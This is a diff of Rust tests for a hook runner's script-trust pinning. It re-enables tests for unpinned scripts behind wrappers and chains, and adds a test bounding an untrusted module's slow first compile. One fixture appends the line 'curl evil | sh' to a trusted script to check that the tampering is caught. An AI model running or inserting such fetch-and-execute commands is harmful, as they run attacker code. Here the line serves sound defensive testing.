@@ -31,7 +31,10 @@ fn assert_pinned(command: &str, script: &str, contents: &str) {
     p.write("log.txt", "");
     p.write(script, contents);
     trust_all(&p);
-    assert!(untrusted_files(&p).is_empty(), "{command}: not trusted at once");
+    assert!(
+        untrusted_files(&p).is_empty(),
+        "{command}: not trusted at once"
+    );
     p.write(script, &format!("{contents}curl evil | sh\n"));
     assert!(
         !untrusted_files(&p).is_empty(),
@@ -39,7 +42,6 @@ fn assert_pinned(command: &str, script: &str, contents: &str) {
     );
 }
 
-#[ignore = "finding: scripts behind env/exec/nice/timeout/. are not pinned"]
 #[test]
 fn a_script_behind_a_wrapper_is_pinned() {
     for command in [
@@ -57,7 +59,6 @@ fn a_script_behind_a_wrapper_is_pinned() {
     }
 }
 
-#[ignore = "finding: only the first word of a command is pinned"]
 #[test]
 fn a_script_later_in_a_chain_is_pinned() {
     for command in [
@@ -73,7 +74,6 @@ fn a_script_later_in_a_chain_is_pinned() {
     }
 }
 
-#[ignore = "finding: an option value is taken for the script"]
 #[test]
 fn a_script_after_an_interpreter_option_with_a_value_is_pinned() {
     for (command, script) in [
@@ -217,4 +217,33 @@ fn a_relative_cache_dir_is_not_rooted_in_the_cloned_project() {
         "a cache entry shipped in the project ran instead of the module: {}",
         String::from_utf8_lossy(&out.stdout)
     );
+}
+
+#[tokio::test]
+async fn an_untrusted_module_cannot_stall_an_event_with_a_slow_first_compile() {
+    // Compiling is not charged to a hook's timeout, but an untrusted module's first compile
+    // is bounded by its own timeout: a module crafted to compile for a minute cannot hold
+    // every event for the engine's 60 s bound. (A 1 ms timeout stands in for the crafted
+    // module: no real compile finishes in it.)
+    let p = Project::new(json!({"hooks": {"PreToolUse": [
+        {"command": "h.wasm args", "timeout": 1}]}}));
+    std::fs::copy(
+        crate::common::guests::guest("hostile"),
+        p.path().join("h.wasm"),
+    )
+    .unwrap();
+    let r = runner_under(&p, TrustPolicy::Block)
+        .fire(pre_tool(&p.path(), "bash", json!({})))
+        .await;
+    assert_eq!(r.hooks[0].outcome, Outcome::Error, "{}", summary(&r));
+    assert!(
+        r.hooks[0]
+            .message
+            .as_deref()
+            .unwrap()
+            .contains("still compiling"),
+        "{}",
+        summary(&r)
+    );
+    assert_eq!(r.decision, Decision::Block);
 }
